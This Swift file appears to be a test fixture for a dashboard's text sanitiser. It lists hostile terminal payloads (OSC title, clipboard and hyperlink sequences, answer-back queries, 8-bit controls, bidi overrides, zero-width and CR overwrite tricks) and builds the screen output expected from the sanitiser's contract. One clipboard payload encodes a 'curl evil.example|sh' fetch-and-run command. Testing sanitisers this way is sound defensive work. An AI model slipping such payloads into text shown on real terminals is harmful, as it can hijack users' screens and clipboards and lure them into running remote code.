/// Text written to drive a terminal, and the text a screen should show instead.
///
/// Each payload is something a stranger can put in a review to change a terminal's title, write
/// to its clipboard, clear or redraw its screen, make it answer back, reorder or hide text, or
/// overwrite a line: escape sequences of every family (CSI, OSC 0/1/2/8/52, DCS, SOS, PM, APC),
/// 8-bit C1 controls, bidi overrides and isolates, zero-width characters, CR, BS and friends.
enum HostileText {
    static let payloads: [String] = [
        "\u{1B}]0;pwned-title\u{07}",                        // OSC 0: window and icon title
        "\u{1B}]2;owned\u{1B}\\",                             // OSC 2: window title, ST-terminated
        "\u{1B}]1;icon\u{07}",                                // OSC 1: icon title
        "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\",  // OSC 8 hyperlink
        "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{07}",     // OSC 52: write the clipboard
        "\u{1B}]52;c;?\u{07}",                                // OSC 52: read the clipboard back
        "\u{1B}[2J\u{1B}[H",                                  // CSI: clear, home
        "\u{1B}[31;1mred\u{1B}[0m",                           // SGR
        "\u{1B}[?1049l\u{1B}[?25h",                           // leave the alternate screen, show the cursor
        "\u{1B}[6n",                                          // DSR: the terminal types its answer
        "\u{1B}[21t",                                         // report the title back as input
        "\u{1B}c",                                            // RIS: full reset
        "\u{1B}P+q544e\u{1B}\\",                              // DCS XTGETTCAP: answers back
        "\u{1B}_apc payload\u{1B}\\",                         // APC
        "\u{1B}^pm payload\u{1B}\\",                          // PM
        "\u{1B}Xsos payload\u{1B}\\",                         // SOS
        "\u{9B}2J",                                           // 8-bit CSI
        "\u{9D}0;c1-title\u{9C}",                             // 8-bit OSC … ST
        "\u{90}dcs\u{9C}",                                    // 8-bit DCS
        "\u{85}next-line",                                    // NEL
        "\u{202E}gnirts desrever\u{202C}",                    // RLO … PDF
        "\u{2066}isolate\u{2069}\u{2067}rtl\u{2069}\u{2068}first\u{2069}",
        "\u{200E}\u{200F}\u{061C}marks",                      // LRM, RLM, ALM
        "zero\u{200B}width\u{200C}joiner\u{2060}word\u{FEFF}bom",
        "Good review\rBAD",                                   // CR: overwrite the line
        "abc\u{08}\u{08}X",                                   // BS
        "bell\u{07}\u{07}",
        "vt\u{0B}ff\u{0C}del\u{7F}nul-free",
        "line\u{2028}separator\u{2029}paragraph",
        "interlinear\u{FFF9}a\u{FFFA}b\u{FFFB}",
        "family 👨\u{200D}👩\u{200D}👧 heart ❤\u{FE0F} text ☺\u{FE0E}",
        "tab\there",
    ]

    /// What the screen must show for `text`, by the sanitiser's documented contract: tabs and
    /// line breaks stay (the dashboard lays them out itself); other C0 controls become their
    /// Control Pictures, DEL `␡`; C1 controls, bidi and zero-width characters, separators and
    /// interlinear marks become `�`; ZWJ and text/emoji variation selectors are dropped.
    ///
    /// Written from the contract, not by calling the sanitiser, so a regression there shows up
    /// as a difference between the hostile and the benign screens.
    static func benign(_ text: String) -> String {
        var shown = String.UnicodeScalarView()
        for scalar in text.unicodeScalars {
            let value = scalar.value
            switch value {
            case 0x09, 0x0A, 0x0D:
                shown.append(scalar)
            case 0x00..<0x20:
                shown.append(Unicode.Scalar(0x2400 + value) ?? "\u{FFFD}")
            case 0x7F:
                shown.append("\u{2421}")
            case 0x80...0x9F, 0x061C, 0x200B, 0x200C, 0x200E, 0x200F, 0x2028...0x202E, 0x2060...0x2064,
                 0x2066...0x2069, 0xFEFF, 0xFFF9...0xFFFB:
                shown.append("\u{FFFD}")
            case 0x200D, 0xFE0E, 0xFE0F:
                continue
            default:
                shown.append(scalar)
            }
        }
        return String(shown)
    }
}
